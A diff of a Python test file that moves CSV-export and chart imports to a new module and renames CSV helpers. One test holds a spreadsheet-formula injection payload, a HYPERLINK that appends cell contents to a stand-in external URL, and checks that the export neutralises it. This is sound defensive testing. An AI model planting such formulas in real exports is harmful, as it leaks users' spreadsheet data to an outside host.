@@ -23,10 +23,10 @@ from sqlalchemy import Engine, func, select
 from atalaya.audit.log import AuditQuery, read_records
 from atalaya.audit.shown import shown_ranges
 from atalaya.audit.verify import verify
+from atalaya.leads.charts import chart_window
+from atalaya.leads.export import CSV_HEADER, csv_parts
 from atalaya.store.tables import lead_override
 from atalaya.web.app import create_app
-from atalaya.web.charts import chart_window
-from atalaya.web.export import CSV_FIELDS, csv_lines
 from atalaya.web.filters import FilterError, parse_filters
 from atalaya.web.security import forwarded_client, parse_trusted_proxies
 from tests.web.conftest import BASE, form_csrf, login_csrf, sign_in, web_settings
@@ -201,7 +201,7 @@ def test_override_scores_are_bounded_to_0_100(client_for: Any, world: Engine) ->
 
 
 def test_web_csv_export_neutralises_formulas() -> None:
-    record = {name: None for name in CSV_FIELDS} | {
+    record = {name: None for name in CSV_HEADER} | {
         "id": 1,
         "isp": '=HYPERLINK("http://x.example/?"&B2&C2, "open")',
         "municipality_name": "+34 900",
@@ -209,7 +209,7 @@ def test_web_csv_export_neutralises_formulas() -> None:
         "networks": ["bittorrent"],
         "flags": [],
     }
-    rows = list(csv.DictReader(io.StringIO("".join(csv_lines([record])))))
+    rows = list(csv.DictReader(io.StringIO("".join(csv_parts([record])))))
     assert rows[0]["isp"] == "'" + record["isp"]
     assert rows[0]["municipality_name"] == "'+34 900"
     assert rows[0]["lon"] == "-3.7"
